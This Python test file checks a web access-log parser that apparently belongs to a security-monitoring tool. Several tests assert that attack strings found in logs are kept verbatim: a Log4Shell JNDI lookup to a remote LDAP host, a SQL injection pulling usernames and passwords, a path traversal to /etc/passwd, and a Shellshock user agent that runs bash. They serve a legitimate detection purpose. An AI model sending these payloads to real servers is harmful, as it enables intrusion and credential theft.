"""Tests of the nginx/Apache access log parser."""

from __future__ import annotations

import json
from datetime import UTC, datetime, tzinfo
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.events import schema
from garrison.events.model import Event
from garrison.normalize.access import AccessLogParser, parse_clf_time
from garrison.normalize.base import Line, ParseContext

DATA = Path(__file__).parent.parent / "data" / "access"
NOW = datetime(2026, 11, 23, tzinfo=UTC)


def ctx(tz: tzinfo = UTC) -> ParseContext:
    return ParseContext(stream="t", now=NOW, tz=tz, year=2026)


def parse(lines: list[str], context: ParseContext | None = None) -> list[Event]:
    return list(
        AccessLogParser().parse(
            [Line(text, i * 1000) for i, text in enumerate(lines)], context or ctx()
        )
    )


def read(name: str) -> list[str]:
    return (DATA / name).read_text(encoding="utf-8").rstrip("\n").split("\n")


def assert_storable(event: Event) -> None:
    """Values are JSON scalars or lists of them, without NUL characters."""
    for key, value in event.fields.items():
        values = value if isinstance(value, list) else [value]
        for item in values:
            assert item is None or isinstance(item, str | int | float | bool), key
            assert "\x00" not in str(item), key
    json.dumps(event.to_dict())


def test_nginx_sample_every_line_yields_one_event() -> None:
    lines = read("nginx_access.log")
    events = parse(lines)
    assert len(events) == len(lines)
    assert [e.unparsed for e in events] == [False] * (len(lines) - 1) + [True]
    for event in events:
        assert_storable(event)
    for event in events[:-1]:
        assert event.dataset == "web.access"
        assert event.fields[schema.CATEGORY] == "web"
        assert event.fields[schema.TYPE] == "access"
        assert event.fields[schema.ACTION] == "http_request"
        assert event.fields[schema.SOURCE_IP] == event.fields["source.address"]
        assert event.fields[schema.OUTCOME] in ("success", "failure")
        assert event.timestamp.tzinfo is not None and event.timestamp != NOW


def test_combined_line_exact_fields() -> None:
    event = parse(read("nginx_access.log"))[0]
    assert event.timestamp == datetime(2026, 11, 21, 10, 1, 2, tzinfo=UTC)
    assert dict(event.fields) == {
        schema.CATEGORY: "web",
        schema.TYPE: "access",
        schema.ACTION: "http_request",
        "source.address": "203.0.113.9",
        schema.SOURCE_IP: "203.0.113.9",
        schema.HTTP_STATUS: 200,
        schema.OUTCOME: "success",
        schema.HTTP_BYTES: 612,
        schema.HTTP_METHOD: "GET",
        schema.URL_ORIGINAL: "/index.html",
        schema.URL_PATH: "/index.html",
        schema.HTTP_VERSION: "1.1",
        schema.HTTP_REFERRER: "https://www.example.com/",
        schema.USER_AGENT: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        schema.LOG_OFFSET: 0,
        schema.KIND: "event",
    }


def test_ipv6_client_query_split_and_http2() -> None:
    f = parse(read("nginx_access.log"))[1].fields
    assert f[schema.SOURCE_IP] == "2001:db8:85a3::8a2e:370:7334"
    assert f[schema.URL_PATH] == "/api/v1/items"
    assert f[schema.URL_QUERY] == "page=2&sort=desc"
    assert f[schema.HTTP_VERSION] == "2.0"
    assert schema.HTTP_REFERRER not in f  # "-" means absent


def test_user_dash_bytes_and_failure_outcome() -> None:
    f = parse(read("nginx_access.log"))[2].fields
    assert f[schema.USER_NAME] == "admin"
    assert f[schema.HTTP_BYTES] == 0  # CLF "-" = no body
    assert f[schema.HTTP_STATUS] == 401
    assert f[schema.OUTCOME] == "failure"


def test_tls_handshake_request_line_still_yields_event() -> None:
    event = parse(read("nginx_access.log"))[3]
    f = event.fields
    assert not event.unparsed
    assert schema.HTTP_METHOD not in f and schema.URL_ORIGINAL not in f
    assert f["web.access.request"] == r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xA1"
    assert f[schema.TAGS] == ["malformed_request"]
    assert f[schema.SOURCE_IP] == "192.0.2.55"
    assert f[schema.HTTP_STATUS] == 400


@pytest.mark.parametrize("index", [4, 5])
def test_empty_or_dash_request(index: int) -> None:
    event = parse(read("nginx_access.log"))[index]
    assert not event.unparsed
    assert schema.HTTP_METHOD not in event.fields
    assert "web.access.request" not in event.fields
    assert event.fields[schema.HTTP_STATUS] in (400, 408)


def test_attack_strings_kept_verbatim() -> None:
    events = parse(read("nginx_access.log"))
    assert events[6].fields[schema.USER_AGENT] == "${jndi:ldap://198.51.100.7:1389/Exploit}"
    assert events[6].fields[schema.URL_QUERY] == "x=${jndi:ldap://198.51.100.7:1389/Exploit}"
    assert events[7].fields[schema.URL_QUERY] == (
        "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"
    )
    assert events[7].fields[schema.USER_AGENT] == "sqlmap/1.7.11#stable (https://sqlmap.org)"


def test_nginx_hex_escapes_decoded_as_utf8() -> None:
    f = parse(read("nginx_access.log"))[8].fields
    assert f[schema.URL_QUERY] == "q=中文"
    assert f[schema.HTTP_REFERRER] == 'https://www.example.com/?q="quoted"'
    assert f[schema.USER_AGENT].endswith("Mac OS X) 中")


def test_trailing_fields_and_x_forwarded_for() -> None:
    events = parse(read("nginx_access.log"))
    f = events[9].fields
    assert f["web.access.extra"] == ["198.51.100.1, 10.0.0.2", "0.003", "0.002"]
    assert f["http.request.x_forwarded_for"] == "198.51.100.1, 10.0.0.2"
    assert f["client.ip"] == "198.51.100.1"
    assert f[schema.SOURCE_IP] == "10.1.2.4"
    assert events[10].fields["web.access.extra"] == ["-"]
    assert "client.ip" not in events[10].fields


def test_connect_absolute_and_versionless_requests() -> None:
    events = parse(read("nginx_access.log"))
    connect = events[11].fields
    assert connect[schema.HTTP_METHOD] == "CONNECT"
    assert connect[schema.URL_ORIGINAL] == "www.example.com:443"
    assert schema.URL_PATH not in connect
    proxy = events[12].fields
    assert proxy[schema.URL_DOMAIN] == "www.example.org"
    assert proxy[schema.URL_PATH] == "/proxy-test"
    assert proxy[schema.URL_QUERY] == "a=1"
    bare = events[13].fields
    assert bare[schema.HTTP_METHOD] == "GET"
    assert bare[schema.URL_PATH] == "/"
    assert schema.HTTP_VERSION not in bare


def test_non_access_line_is_unparsed_with_reason() -> None:
    event = parse(read("nginx_access.log"))[-1]
    assert event.unparsed
    assert event.dataset == "web.access"
    assert event.original == "nginx: [emerg] this is not an access log line"
    assert "common/combined" in event.fields[schema.ERROR_MESSAGE]


def test_apache_sample() -> None:
    events = parse(read("apache_access.log"))
    assert not any(e.unparsed for e in events)
    common = events[0]
    assert common.timestamp == datetime(2026, 10, 10, 20, 55, 36, tzinfo=UTC)
    assert common.fields[schema.USER_NAME] == "frank"
    assert common.fields[schema.HTTP_VERSION] == "1.0"
    assert schema.USER_AGENT not in common.fields
    escaped = events[1].fields
    assert escaped[schema.USER_AGENT] == (
        'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0 "injected" '
        "\\backslash"
    )
    assert escaped[schema.URL_QUERY] == "page=../../../../etc/passwd"
    local = events[2].fields
    assert local[schema.SOURCE_IP] == "::1"
    assert local[schema.URL_ORIGINAL] == "*"
    assert local[schema.HTTP_BYTES] == 0
    vhost = events[3].fields
    assert vhost[schema.URL_DOMAIN] == "www.example.com"
    assert vhost[schema.DESTINATION_PORT] == 443
    assert vhost[schema.SOURCE_IP] == "203.0.113.40"
    assert vhost[schema.USER_AGENT] == '() { :; }; /bin/bash -c "cat /etc/passwd"'
    assert events[4].fields[schema.URL_PATH] == "/a file with spaces.html"


def test_hostname_client_is_not_an_ip() -> None:
    (event,) = parse(['gw.example.net - - [21/Nov/2026:18:01:02 +0800] "GET / HTTP/1.1" 200 1'])
    assert schema.SOURCE_IP not in event.fields
    assert event.fields["source.domain"] == "gw.example.net"


def test_bad_timestamp_keeps_event_with_tag() -> None:
    (event,) = parse(['192.0.2.1 - - [99/Foo/2026:25:61:61 +0800] "GET / HTTP/1.1" 200 1'])
    assert not event.unparsed
    assert event.timestamp == NOW
    assert event.fields[schema.TAGS] == ["timestamp_unparsed"]
    assert event.fields[schema.URL_PATH] == "/"


def test_timestamp_forms_and_cache() -> None:
    lines = [
        '192.0.2.1 - - [21/Nov/2026:18:01:02 +0800] "GET /a HTTP/1.1" 200 1',
        '192.0.2.2 - - [21/Nov/2026:18:01:02 +0800] "GET /b HTTP/1.1" 200 1',
        '192.0.2.3 - - [21/Nov/2026:18:01:02 -0530] "GET /c HTTP/1.1" 200 1',
        '192.0.2.4 - - [2026-11-21T18:01:02+08:00] "GET /d HTTP/1.1" 200 1',
        '192.0.2.5 - - [21/Nov/2026:18:01:02.250] "GET /e HTTP/1.1" 200 1',
    ]
    events = parse(lines, ctx(ZoneInfo("Asia/Shanghai")))
    assert [e.timestamp for e in events] == [
        datetime(2026, 11, 21, 10, 1, 2, tzinfo=UTC),
        datetime(2026, 11, 21, 10, 1, 2, tzinfo=UTC),
        datetime(2026, 11, 21, 23, 31, 2, tzinfo=UTC),
        datetime(2026, 11, 21, 10, 1, 2, tzinfo=UTC),
        datetime(2026, 11, 21, 10, 1, 2, 250000, tzinfo=UTC),  # zone-less: ctx.tz
    ]


def test_parse_clf_time_rejects_garbage() -> None:
    with pytest.raises((ValueError, KeyError)):
        parse_clf_time("yesterday", UTC)


def test_sniff_scores() -> None:
    parser = AccessLogParser()
    assert parser.sniff(read("nginx_access.log")) > 0.9
    assert parser.sniff(read("apache_access.log")) == 1.0
    error_log = (DATA.parent / "apache_error" / "error.log").read_text(encoding="utf-8")
    assert parser.sniff(error_log.splitlines()) == 0.0
    assert parser.sniff([]) == 0.0


def test_ids_are_stable_and_distinct() -> None:
    lines = read("nginx_access.log")
    first, second = parse(lines), parse(lines)
    assert [e.id for e in first] == [e.id for e in second]
    assert len({e.id for e in first}) == len(lines)


VALID = read("nginx_access.log")[:14] + read("apache_access.log")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_random_text_never_raises_and_never_drops(text: str) -> None:
    lines = text.split("\n")
    events = parse(lines)
    assert len(events) == sum(1 for line in lines if line.strip())
    for event in events:
        assert_storable(event)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_random_bytes_never_raise(data: bytes) -> None:
    lines = data.decode("utf-8", errors="replace").split("\n")
    events = parse(lines)
    assert len(events) == sum(1 for line in lines if line.strip())


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(VALID), st.integers(0, 400), st.text(max_size=12))
def test_mutated_lines_never_raise(line: str, at: int, junk: str) -> None:
    mutated = (line[:at] + junk + line[at:]).replace("\n", " ")
    (event,) = parse([mutated]) if mutated.strip() else (None,)
    if event is not None:
        assert_storable(event)
